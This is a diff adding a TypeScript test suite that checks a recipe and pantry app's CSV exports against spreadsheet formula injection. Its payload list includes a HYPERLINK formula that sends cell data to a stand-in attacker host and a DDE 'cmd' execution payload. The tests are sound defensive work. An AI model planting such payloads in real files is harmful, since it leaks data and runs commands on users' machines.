@@ -1,0 +1,106 @@
+import fc from 'fast-check';
+import { expect, test } from 'vitest';
+import { reportCsv } from '#domain/imports/report';
+import { csvCell, csvText, readCsv } from '#domain/lib/csv';
+import { nutritionCsv } from '#domain/nutrition/csv';
+import { pantryCsv } from '#domain/pantry/csv';
+
+/** What a spreadsheet may compute, whatever stands before it. */
+const FORMULAS = [
+  ...[
+    '=1+1',
+    '+1',
+    '-1+1',
+    '@SUM(A1)',
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    '\tx',
+    '\rx',
+    '\nx',
+    ' =1+1',
+    '\u00a0=1+1',
+  ],
+  ...['＝1+1', '＋1', '－1', '＠SUM(A1)', '=HYPERLINK("http://evil.example?"&A1,"x")', "=cmd|' /C calc'!A0"],
+  ...['-2+3', '=";"', '=1\r\n=2', "'=1+1", "''=1+1"],
+];
+
+/** The cells of a file as a spreadsheet gets them: quotes are taken off, apostrophes are not. */
+const cellsOf = (file: string) =>
+  [...file.matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n]*))(?:,|\r\n)/g)].map(
+    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
+  );
+
+const isFormula = (cell: string) => /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/u.test(cell);
+
+test.each(FORMULAS)('the text %j is no formula in a file, and comes back as it was', (text) => {
+  const file = csvText([['before', text, 'after']]);
+  expect(cellsOf(file).filter(isFormula)).toEqual([]);
+  expect(readCsv(file)).toEqual([{ line: 1, cells: ['before', text, 'after'] }]);
+});
+
+test('what is no formula is written as it is', () => {
+  for (const text of ['egg', '1-2 eggs', 'a=b', 'x@y.example', '½ cup', '2 × 3'])
+    expect(csvCell(text)).toBe(text);
+});
+
+test('every text comes back as it was', () => {
+  const texts = fc.string({ unit: fc.constantFrom(...'=+-@＝＋－＠\'";,\t\r\n \u00a0a'), maxLength: 6 });
+  fc.assert(
+    fc.property(fc.array(fc.array(texts, { minLength: 3, maxLength: 3 }), { maxLength: 4 }), (rows) => {
+      const whole = [['a', 'b', 'c'], ...rows.map(([one = '', ...rest]) => [`x${one}`, ...rest])];
+      const file = csvText(whole);
+      expect(cellsOf(file).filter(isFormula)).toEqual([]);
+      expect(readCsv(file).map(({ cells }) => cells)).toEqual(whole);
+    }),
+    { numRuns: 1_000 },
+  );
+});
+
+/** Each file that is offered, with a text of somebody else in every place that takes one. */
+const FILES: readonly (readonly [name: string, file: (text: string) => string])[] = [
+  [
+    'the pantry',
+    (text) => pantryCsv([{ ingredient_name: text, qty: 1, unit: 'count', expires_on: null, notes: text }]),
+  ],
+  [
+    'the report of an import',
+    (text) =>
+      reportCsv({
+        source: text,
+        remarks: [],
+        imported: [{ position: 0, id: text, title: text }],
+        failed: [{ position: 1, title: text, error: text }],
+      } as unknown as Parameters<typeof reportCsv>[0]),
+  ],
+  [
+    'the nutrition of a recipe',
+    (text) => {
+      const figures = {
+        calories: 1,
+        protein_g: 1,
+        carbs_g: 1,
+        fat_g: 1,
+        fiber_g: 1,
+        sugar_g: 1,
+        sodium_mg: 1,
+      };
+      return nutritionCsv({
+        ...figures,
+        serving_size: text,
+        servings: 2,
+        totals: figures,
+        breakdown: [{ name: text, grams: 1, calories: 1, protein: 1, carbs: 1, fat: 1 }],
+        unmatched: [text],
+      } as unknown as Parameters<typeof nutritionCsv>[0]);
+    },
+  ],
+];
+
+test.each(FILES)('no cell of %s is a formula, whatever somebody has written into it', (_, file) => {
+  for (const text of FORMULAS) {
+    const cells = cellsOf(file(text));
+    expect(cells.length).toBeGreaterThan(5);
+    expect(cells.filter(isFormula)).toEqual([]);
+  }
+});
